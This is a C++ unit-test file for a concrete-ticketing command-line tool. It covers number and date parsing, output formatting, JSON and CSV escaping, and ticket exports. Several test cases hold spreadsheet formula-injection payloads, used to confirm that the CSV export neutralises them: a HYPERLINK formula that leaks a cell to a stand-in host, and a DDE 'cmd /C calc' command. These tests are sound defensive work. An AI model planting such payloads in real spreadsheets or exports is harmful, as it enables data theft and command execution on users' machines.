// morvik's pieces without a database: the command line, the strict numbers,
// the written values and exports, and the figures of a finished cycle.

#include <cmath>
#include <limits>
#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "Cli.h"
#include "Output.h"
#include "Records.h"
#include "SampleTickets.h"
#include "Tickets.h"

namespace {

struct NumberCase {
    std::string text;
    bool valid;
    double value;
};

void PrintTo(const NumberCase& c, std::ostream* os)
{
    *os << "'" << c.text << "'";
}

class RealText : public ::testing::TestWithParam<NumberCase> {};

TEST_P(RealText, IsTheWholeNumberOrAUsageError)
{
    if (GetParam().valid)
        EXPECT_FLOAT_EQ(GetParam().value, ParseReal("--size", GetParam().text));
    else
        EXPECT_THROW(ParseReal("--size", GetParam().text), UsageError);
}

INSTANTIATE_TEST_SUITE_P(Cases, RealText,
                         ::testing::Values(NumberCase{"8", true, 8}, NumberCase{"8.5", true, 8.5},
                                           NumberCase{"-0.25", true, -0.25}, NumberCase{"+3", true, 3},
                                           NumberCase{".5", true, 0.5}, NumberCase{"1e3", true, 1000},
                                           NumberCase{"8x", false, 0}, NumberCase{"abc", false, 0},
                                           NumberCase{"", false, 0}, NumberCase{" 8", false, 0},
                                           NumberCase{"8 ", false, 0}, NumberCase{"0x10", false, 0},
                                           NumberCase{"nan", false, 0}, NumberCase{"-inf", false, 0},
                                           NumberCase{"1e39", false, 0}, NumberCase{"8,5", false, 0},
                                           NumberCase{".", false, 0}));

class IntText : public ::testing::TestWithParam<NumberCase> {};

TEST_P(IntText, IsTheWholeNumberOrAUsageError)
{
    if (GetParam().valid)
        EXPECT_EQ(static_cast<int>(GetParam().value), ParseInt("--cycles", GetParam().text));
    else
        EXPECT_THROW(ParseInt("--cycles", GetParam().text), UsageError);
}

INSTANTIATE_TEST_SUITE_P(Cases, IntText,
                         ::testing::Values(NumberCase{"2", true, 2}, NumberCase{"-7", true, -7},
                                           NumberCase{"2147483647", true, 2147483647.0},
                                           NumberCase{"2147483648", false, 0}, NumberCase{"2.5", false, 0},
                                           NumberCase{"2x", false, 0}, NumberCase{"", false, 0},
                                           NumberCase{" 2", false, 0}));

struct BoundedCase {
    ParseNumber parse;
    std::string text;
    std::string error;  // empty for a value that is taken
    float value;
};

void PrintTo(const BoundedCase& c, std::ostream* os)
{
    *os << "'" << c.text << "' " << (c.error.empty() ? "taken" : c.error);
}

class BoundedText : public ::testing::TestWithParam<BoundedCase> {};

TEST_P(BoundedText, IsInRangeOrAUsageErrorSayingWhy)
{
    const BoundedCase& c = GetParam();
    if (c.error.empty()) {
        float value = c.parse("--x", c.text);
        EXPECT_FLOAT_EQ(c.value, value);
        EXPECT_FALSE(std::signbit(value));
        return;
    }
    try {
        c.parse("--x", c.text);
        ADD_FAILURE() << "taken";
    } catch (const UsageError& e) {
        EXPECT_EQ(c.error, e.what());
    }
}

INSTANTIATE_TEST_SUITE_P(
    Cases, BoundedText,
    ::testing::Values(BoundedCase{ParseAmount, "0", "", 0}, BoundedCase{ParseAmount, "-0", "", 0},
                      BoundedCase{ParseAmount, "-0.001", "--x must not be negative", 0},
                      BoundedCase{ParseAmount, "-1e-40", "--x must not be negative", 0},
                      BoundedCase{ParsePercent, "0", "", 0}, BoundedCase{ParsePercent, "-0", "", 0},
                      BoundedCase{ParsePercent, "100", "", 100},
                      BoundedCase{ParsePercent, "100.01", "--x must be from 0 to 100", 0},
                      BoundedCase{ParsePercent, "-0.5", "--x must be from 0 to 100", 0},
                      BoundedCase{ParseSize, "0.000001", "", 0.000001f},
                      BoundedCase{ParseSize, "0.0000004", "--x must be above 0", 0},
                      BoundedCase{ParseSize, "1e-7", "--x must be above 0", 0},
                      BoundedCase{ParseSize, "-0", "--x must be above 0", 0},
                      BoundedCase{ParseSize, "nan", "--x: 'nan' is not a number", 0}));

// The float options of a record that refuse `text`.
template <class R>
std::vector<std::string> RefusedFigures(const Columns<R>& columns, const std::string& text)
{
    std::vector<std::string> refused;
    for (const Column<R>& column : columns) {
        R record;
        if (!column.set || column.get(record).kind != FieldValue::Real)
            continue;
        try {
            column.set(record, text);
        } catch (const UsageError&) {
            refused.push_back(column.name);
        }
    }
    return refused;
}

// Every figure "add" and "set" take is an amount, a price or a rate; sales
// tax is a percent as well.
TEST(CommandLine, RecordFiguresAreNotNegativeAndPercentsAtMost100)
{
    using Names = std::vector<std::string>;
    EXPECT_EQ((Names{"quantityordered", "formulaprice", "batchsize", "salestax", "grandtotal"}),
              RefusedFigures(records::kJob, "-1"));
    EXPECT_EQ((Names{"salestax"}), RefusedFigures(records::kJob, "101"));
    EXPECT_EQ((Names{"maxwateramount", "watercementratio", "price"}), RefusedFigures(records::kFormula, "-1"));
    EXPECT_EQ((Names{"dischargerate", "maxloadsize"}), RefusedFigures(records::kTruck, "-1"));
    EXPECT_EQ((Names{"unitprice"}), RefusedFigures(records::kProduct, "-1"));
    EXPECT_EQ((Names{"salestax"}), RefusedFigures(records::kBatchOptions, "-1"));
    EXPECT_EQ((Names{"salestax"}), RefusedFigures(records::kBatchOptions, "101"));
    for (const Names& none : {RefusedFigures(records::kJob, "0"), RefusedFigures(records::kJob, "100"),
                              RefusedFigures(records::kFormula, "101"), RefusedFigures(records::kBatchOptions, "0")})
        EXPECT_EQ(Names{}, none);
}

TEST(CommandLine, FlagsDatesAndQuantitiesAreStrict)
{
    EXPECT_TRUE(ParseFlag("--taxable", "t"));
    EXPECT_FALSE(ParseFlag("--taxable", "false"));
    EXPECT_THROW(ParseFlag("--taxable", "yes"), UsageError);
    EXPECT_EQ("2028-02-29", ParseDate("--date", "2028-02-29"));
    for (const char* bad : {"2026-02-29", "2026-13-01", "2026-1-01", "2026-01-01x", "20260101"})
        EXPECT_THROW(ParseDate("--date", bad), UsageError) << bad;

    Quantity q = ParseQuantity("--product", "A=B=2.5@12", true);
    EXPECT_EQ("A=B", q.id);
    EXPECT_FLOAT_EQ(2.5, q.amount);
    EXPECT_TRUE(q.priced);
    EXPECT_FLOAT_EQ(12, q.price);
    EXPECT_FALSE(ParseQuantity("--product", "PUMP=1", true).priced);
    for (const char* bad : {"SAND", "=5", "SAND=", "SAND=5kg", "SAND=5@3"})
        EXPECT_THROW(ParseQuantity("--material", bad, false), UsageError) << bad;
}

TEST(CommandLine, OptionsArePairedWithTheirValuesAndCheckedAgainstTheAction)
{
    std::vector<OptionDef> defs = {{"size", "SIZE", ""}, {"actual", "P=V", "", true}};
    Args args({"7", "--size", "--8", "--actual=A=1", "--actual", "B=2", "--", "--size"}, defs);
    EXPECT_EQ((std::vector<std::string>{"7", "--size"}), args.Positional());
    EXPECT_EQ("--8", args.Value("size"));
    EXPECT_EQ((std::vector<std::string>{"A=1", "B=2"}), args.Values("actual"));
    EXPECT_THROW(args.Required("cycles"), UsageError);

    for (std::vector<std::string> bad : {std::vector<std::string>{"--colour", "red"}, {"--size"},
                                         {"--size", "1", "--size", "2"}})
        EXPECT_THROW(Args(bad, defs), UsageError) << bad[0];
    EXPECT_TRUE(SameId("Mix-30a", "MIX-30A"));
    EXPECT_FALSE(SameId("Caf\xe9", "CAF\xc9"));
}

TEST(Output, NumbersAreTheShortestThatReadBack)
{
    EXPECT_EQ("87.65", Number(87.65f));
    EXPECT_EQ("1300", Number(1300.0f));
    EXPECT_EQ("0.0625", Number(0.0625f));
    EXPECT_EQ("-2.5", Number(-2.5f));
    EXPECT_EQ("123456.78", Number(123456.78125f));
    EXPECT_EQ("0.1", Number(0.1, false));
    EXPECT_EQ("1e-20", Number(1e-20f));
}

TEST(Output, TextsStayOnOneLineAndTablesAlign)
{
    EXPECT_EQ("a\\nb\\tc\\\\d\\x1b\xe9", OneLine("a\nb\tc\\d\x1b\xe9"));
    EXPECT_EQ("A    x  1\n"
              "BBB  y\n"
              "C       3\n",
              AlignedTable({{"A", "x", "1"}, {"BBB", "y", ""}, {"C", "", "3"}}));
}

TEST(Output, JsonIsEscapedUtf8AndNested)
{
    EXPECT_EQ("\"Caf\xc3\xa9 \\\"M\xc3\xbcller\\\" \\\\ \\n\\u001b\\f\"",
              JsonString("Caf\xe9 \"M\xfcller\" \\ \n\x1b\f"));
    JsonWriter json;
    json.BeginObject();
    json.Key("n").Number(2.5f);
    json.Key("bad").Number(std::numeric_limits<double>::quiet_NaN());
    json.Key("void").Bool(false);
    json.Key("none").BeginArray();
    json.EndArray();
    json.Key("lines").BeginArray();
    json.BeginObject();
    json.Key("id").String("\xff");
    json.EndObject();
    json.Integer(-3);
    json.EndArray();
    json.EndObject();
    EXPECT_EQ("{\n  \"n\": 2.5,\n  \"bad\": null,\n  \"void\": false,\n  \"none\": [],\n  \"lines\": [\n    {\n"
              "      \"id\": \"\xc3\xbf\"\n    },\n    -3\n  ]\n}\n",
              json.Text());
}

TEST(Output, CsvQuotesOnlyWhatNeedsIt)
{
    EXPECT_EQ("plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\"cr\r\",Gro\xc3\x9f,\r\n",
              CsvRecord({"plain", "a,b", "say \"hi\"", "two\nlines", "cr\r", "Gro\xdf", ""}));
}

struct CsvCase {
    std::string text;
    std::string field;  // as written into the record
};

void PrintTo(const CsvCase& c, std::ostream* os)
{
    *os << "'" << c.text << "'";
}

class CsvText : public ::testing::TestWithParam<CsvCase> {};

// A text a spreadsheet would run as a formula is written as text, the
// apostrophe inside the quotes where the field needs them.
TEST_P(CsvText, IsWrittenSoASpreadsheetReadsItAsText)
{
    EXPECT_EQ(GetParam().field + ",x\r\n", CsvRecord({GetParam().text, "x"}));
}

INSTANTIATE_TEST_SUITE_P(
    Cases, CsvText,
    ::testing::Values(CsvCase{"=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")",
                              "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\""},
                      CsvCase{"+1+1", "'+1+1"}, CsvCase{"-2+3", "'-2+3"},
                      CsvCase{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
                      CsvCase{"\tcmd", "'\tcmd"}, CsvCase{"\r=1", "\"'\r=1\""}, CsvCase{"-", "'-"},
                      CsvCase{"a=1", "a=1"}, CsvCase{" =1", " =1"}, CsvCase{"'=1", "'=1"},
                      CsvCase{std::string("\0=1", 3), std::string("\0=1", 3)}, CsvCase{"", ""},
                      CsvCase{"\xa0=1", "\xc2\xa0=1"}));

TEST(Exports, ATicketDocumentHoldsItsRecordsAndLines)
{
    auto ticket = samples::SpecialTexts();
    TicketEvent printed;
    printed.event = 7;
    printed.kind = "printed";
    printed.who = "clerk";
    printed.printer = "ticket\xe9";
    printed.invoice = 12;
    printed.copies = 2;
    std::string json = TicketJson(*ticket, "ab12", {printed});
    for (const std::string& member : std::vector<std::string>{
             "{\n  \"id\": \"X4004\",\n  \"entry\": 104,\n", "\n  \"void\": false,\n", "\n  \"batchsize\": 3.25,\n",
          "\n  \"instructions\": \"Gate code <4711> & ring\\n\\\"Do not\\\" block the drive\\n"
          "Ask for J\xc3\xb6rg\\fbring ID\",\n",
          "\n  \"customer\": {\n    \"id\": \"C&400\",\n    \"name\": \"Sand & Gravel <Caf\xc3\xa9 M\xc3\xbcller>\",\n",
          "\n  \"truck\": {\n    \"id\": \"T'9\",\n",
          "\n  \"materials\": [\n    {\n      \"id\": \"SAND\",\n      \"type\": \"agg\",\n",
          "\n      \"moisture\": 3.5,\n      \"over\": false,\n",
          "\n  \"products\": [\n    {\n      \"id\": \"PUMP\",\n      \"type\": \"extra\",\n      \"description\": "
          "\"Pump & boom \\\"36m\\\"\",\n      \"usmetric\": \"\",\n      \"unitmeasure\": \"\",\n      \"taxable\": "
          "false,\n      \"unitprice\": 150,\n      \"amount\": 1,\n      \"position\": 1\n    }\n  ],\n"
          "  \"digest\": \"ab12\",\n  \"events\": [\n    {\n      \"event\": 7,\n",
          "\"kind\": \"printed\",\n      \"who\": \"clerk\",\n      \"client\": \"\",\n      \"printer\": "
          "\"ticket\xc3\xa9\",\n      \"invoice\": 12,\n      \"copies\": 2,\n"})
        EXPECT_NE(std::string::npos, json.find(member)) << member;

    Ticket voided;
    voided.Id("T\"1");
    voided.Void(true);
    voided.Batchsize(8);
    voided.Total(798.43f);
    voided.Deliverto("Lot 7, north");
    EXPECT_EQ("identifier,invoice,date,customer,job,delivery site,formula,truck,driver,batch size,total,void\r\n"
              "\"T\"\"1\",0,,,,\"Lot 7, north\",,,,8,798.43,true\r\n",
              TicketsCsv({voided}));

    // Texts typed in at the office are written so that no spreadsheet runs
    // them; the numbers the export writes, a credit's negative total too, stay
    // numbers.
    Ticket hostile;
    hostile.Id("T2");
    hostile.Invoice(-4);
    hostile.CustomerId("=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")");
    hostile.JobId("@J");
    hostile.FormulaId("+1+1");
    hostile.TruckId("@SUM(1+1)*cmd|' /C calc'!A0");
    hostile.Driver("\tAnn");
    hostile.Deliverto("-2+3");
    hostile.Batchsize(-1.5);
    hostile.Total(-12.5f);
    EXPECT_EQ("T2,-4,,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\",'@J,'-2+3,'+1+1,"
              "'@SUM(1+1)*cmd|' /C calc'!A0,'\tAnn,-1.5,-12.50,false\r\n",
              TicketsCsv({hostile}).substr(TicketsCsv({}).size()));
}

}  // namespace
